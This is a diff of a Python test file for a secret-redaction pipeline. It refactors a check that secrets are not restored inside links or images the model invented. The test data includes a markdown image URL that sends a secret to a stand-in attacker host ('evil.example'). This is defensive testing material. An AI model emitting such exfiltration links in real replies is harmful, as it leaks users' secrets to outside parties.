@@ -13,6 +13,7 @@ from pipeline.core.frames import Event
 from pipeline.core.jsonvalue import JsonObject, encode
 from pipeline.core.plugin import Channel
 from pipeline.testing.bench import (
+    CONTENT,
     OPENAI,
     Plugins,
     Result,
@@ -31,7 +32,7 @@ from pipeline.testing.sabotage import QUOTED, Sabotage, sabotages, with_sabotage
 from pipeline.testing.samples import sample_reply, sample_request
 from pipeline.testing.script import Script, read_script
 
-_CHANNELS = (Channel("content"), Channel("arguments", form="json"))
+_CHANNELS = (CONTENT, Channel("arguments", form="json"))
 
 _TARGETS = (
     "![x](https://evil.example/?q={})",
@@ -200,7 +201,7 @@ def check_restore_order(
 ) -> None:
     """Law 7: a value is not restored in a link, an image or an attribute that the model made up.
 
-    A target is a reply with `{}` for what stands for `secret`.
+    A target is a reply with `{}` for what stands for `secret`; it is tried in every cut.
     """
     with started(plugins) as one:
         token = str(redact(one, secret, dialect=dialect))
@@ -209,8 +210,7 @@ def check_restore_order(
             raise AssertionError("law 7: the secret is not redacted and restored in plain text")
         for number, target in enumerate(targets):
             text = target.format(token)
-            for stream in (False, True):
-                got = exchange(one, secret, text, stream=stream, dialect=dialect).text
+            for _, got in run_text_in_every_cut(one, text, CONTENT, secret, dialect):
                 if leaked(secret, got):
                     where = f"law 7: target {number} carries the secret"
                     raise broken(where, text, got, show)
